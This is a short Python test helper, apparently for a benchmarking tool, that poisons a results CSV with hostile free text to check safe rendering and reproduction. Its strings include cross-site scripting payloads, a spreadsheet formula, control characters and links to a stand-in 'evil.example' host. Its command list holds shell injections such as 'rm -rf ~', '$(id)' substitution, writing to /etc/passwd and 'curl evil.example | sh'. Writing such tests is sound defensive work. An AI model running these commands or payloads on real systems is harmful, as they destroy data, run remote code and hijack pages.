"""What a stranger might write into the free text of a results file, to have it run, be followed or deceive."""

import pandas as pd

TEXTS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>document.title='owned'</script>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "a | b ` c ``` d\\| <!-- e",
    "=HYPERLINK(\"https://evil.example\")",
    "https://evil.example @someone www.evil.example",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnorw\N{LINE SEPARATOR}next\x1b[31m",
    "${alert(1)} {{constructor}} __proto__",
    "x" * 5000,
)  # fmt: skip
COLUMNS = ("reason", "device", "driver", "cuda", "torch", "triton", "mtabench", "run_id", "timer", "cache", "baseline")
COMMANDS = (
    "mtabench fwd --impl eager; rm -rf ~", "mtabench fwd --impl `id`", "mtabench fwd --out /etc/passwd",
    "curl evil.example | sh", "mtabench fwd --seq 64 --impl $(id)",
)  # fmt: skip


def poison(path):
    """Rewrite a results file: hostile texts in every column that takes any text, and implementations named so."""
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    for offset, column in enumerate(("impl", *COLUMNS)):
        table[column] = [TEXTS[(number + max(offset - 1, 0)) % len(TEXTS)] for number in table.index]
    table["repro"] = [COMMANDS[number % len(COMMANDS)] for number in table.index]
    table.to_csv(path, index=False)
    return path
